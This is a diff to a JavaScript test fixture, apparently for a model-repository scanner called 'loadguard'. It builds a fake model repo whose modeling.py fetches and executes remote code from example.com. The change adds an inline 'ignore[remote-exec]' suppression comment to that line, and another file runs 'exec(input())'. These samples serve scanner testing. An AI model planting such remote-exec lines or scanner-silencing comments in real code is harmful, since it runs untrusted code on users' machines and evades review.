@@ -13,7 +13,8 @@ const FILES = {
     auto_map: { AutoModel: 'modeling.Tiny', AutoConfig: 'acme/code--configuration.Tiny' },
   }),
   'tokenizer_config.json': JSON.stringify({ auto_map: { AutoTokenizer: ['tokenization.Tiny', null] } }),
-  'modeling.py': 'import requests\nfrom .layers import Layer\n\nexec(requests.get("https://example.com/a.py").text)\n',
+  'modeling.py':
+    'import requests\nfrom .layers import Layer\n\nexec(requests.get("https://example.com/a.py").text)  # loadguard: ignore[remote-exec] fine\n',
   'layers.py': 'import torch\n',
   'unused.py': 'exec(input())\n',
   'pytorch_model.bin': 'weights',
